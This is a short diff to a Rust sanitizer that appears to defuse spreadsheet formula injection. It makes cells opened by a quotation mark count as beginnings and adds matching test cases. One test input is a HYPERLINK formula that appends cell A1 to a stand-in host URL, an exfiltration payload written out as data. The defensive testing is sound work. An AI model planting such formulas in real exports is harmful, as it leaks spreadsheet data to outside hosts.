@@ -94,6 +94,8 @@ fn harmless(text: &str) -> String {
         }
         begins = match letter {
             ';' | '\t' | '\r' | '\n' => true,
+            // A quotation mark opens a cell that is quoted, and what it leads is the cell's beginning still.
+            '"' => begins,
             // What a spreadsheet drops before it reads on.
             letter => begins && (letter.is_whitespace() || letter.is_control() || is_invisible(letter)),
         };
@@ -127,6 +129,10 @@ mod tests {
             ("\nx", "'\nx"),
             ("a;=1", "a;'=1"),
             ("a\n -b", "a\n '-b"),
+            ("x;\"=HYPERLINK(\"http://e/\"&A1);", "x;\"'=HYPERLINK(\"http://e/\"&A1);"),
+            ("a;\"=1+1;", "a;\"'=1+1;"),
+            ("\" \"\"=1", "\" \"\"'=1"),
+            ("a \"=1\"", "a \"=1\""),
             ("1-2=3", "1-2=3"),
             ("ada@example.com", "ada@example.com"),
             ("'=1", "'=1"),
